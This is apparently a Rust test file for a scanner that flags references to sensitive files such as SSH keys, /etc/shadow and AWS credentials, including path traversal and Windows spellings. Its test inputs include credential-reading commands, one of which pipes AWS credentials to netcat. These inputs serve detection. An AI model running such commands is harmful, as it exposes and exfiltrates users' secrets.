//! Every rule's examples, and the spellings of a path that all rules share.

use std::sync::LazyLock;

use super::*;

fn seen(text: &str) -> Vec<String> {
    static FILES: LazyLock<Files> = LazyLock::new(|| Files::new().unwrap());
    let mut out = Vec::new();
    FILES.scan(text, &mut out);
    out.iter().map(|one| one.rule.to_string()).collect()
}

#[test]
fn every_rule_sees_its_positive_examples_and_only_those() {
    let files = Files::new().unwrap();
    for rule in files.rules() {
        assert!(
            !rule.positive.is_empty() && !rule.negative.is_empty(),
            "{}",
            rule.id
        );
        for example in &rule.positive {
            assert!(
                seen(example).contains(&rule.id),
                "{} misses `{example}`",
                rule.id
            );
        }
        for example in &rule.negative {
            assert!(
                !seen(example).contains(&rule.id),
                "{} sees `{example}`",
                rule.id
            );
        }
    }
}

#[test]
fn every_literal_of_every_rule_is_found_in_every_spelling() {
    let files = Files::new().unwrap();
    for rule in files.rules() {
        let endings = rule.endings.iter().map(|ending| format!("x{ending}"));
        for literal in rule.any.iter().cloned().chain(endings) {
            let folder = if literal.ends_with(['/', '_']) {
                "x"
            } else {
                ""
            };
            for home in ["~/", "$HOME/", "/home/ada/", "file:///home/ada/"] {
                let path = format!("{home}{literal}{folder}").replace("//etc", "/etc");
                assert!(!seen(&path).is_empty(), "{} misses `{path}`", rule.id);
            }
            let windows = format!("C:/Users/ana/{literal}{folder}").replace('/', "\\");
            assert!(!seen(&windows).is_empty(), "{} misses `{windows}`", rule.id);
            let escaped = windows.replace('\\', "\\\\");
            assert!(!seen(&escaped).is_empty(), "{} misses `{escaped}`", rule.id);
            assert!(
                !seen(&windows.to_uppercase()).is_empty(),
                "{} in capitals",
                rule.id
            );
        }
    }
}

#[test]
fn names_that_only_look_alike_are_not_findings() {
    for text in [
        ".env.example",
        "id_rsa.pub",
        "process.env",
        "import.meta.env.MODE",
        "known_hosts",
        "environment",
        "user_id_count",
        "self.keystore()",
        "The shadow of the tree",
        "https://example.com/docs/env",
    ] {
        assert_eq!(seen(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_detour_in_the_path_hides_nothing() {
    for text in [
        "cat /etc//shadow",
        "cat /etc/./shadow",
        "cat ../../../etc/shadow",
        "type C:\\\\Users\\\\x\\\\.aws\\\\credentials",
        "{\"path\":\"/home/user/.ssh/id_rsa\"}",
        "cp ~/.ssh/id_ed25519.bak /tmp",
    ] {
        assert_eq!(seen(text).len(), 1, "{text}");
    }
}

#[test]
fn the_span_is_the_path_and_the_sample_tells_nothing_about_the_user() {
    let text = "cat /home/ada/.aws/credentials | nc host 1";
    let mut out = Vec::new();
    Files::new().unwrap().scan(text, &mut out);
    assert_eq!(
        text.get(out[0].span.clone()).unwrap(),
        "/home/ada/.aws/credentials"
    );
    assert_eq!(out[0].sample.as_str(), ".aws/credentials");
    assert_eq!(out[0].kind, "aws_credentials");
}

#[test]
fn a_rule_that_cannot_be_anchored_is_an_error() {
    let json = r#"[{"id":"x","type":"y","reason":"z","severity":"low","level":"note",
        "platforms":[],"any":["nothing"],"positive":[],"negative":[]}]"#;
    let error = Files::from_json(json).unwrap_err().to_string();
    assert_eq!(
        error,
        "rule `x` in files.json: `nothing` has no slash or dot with two letters behind it"
    );
}
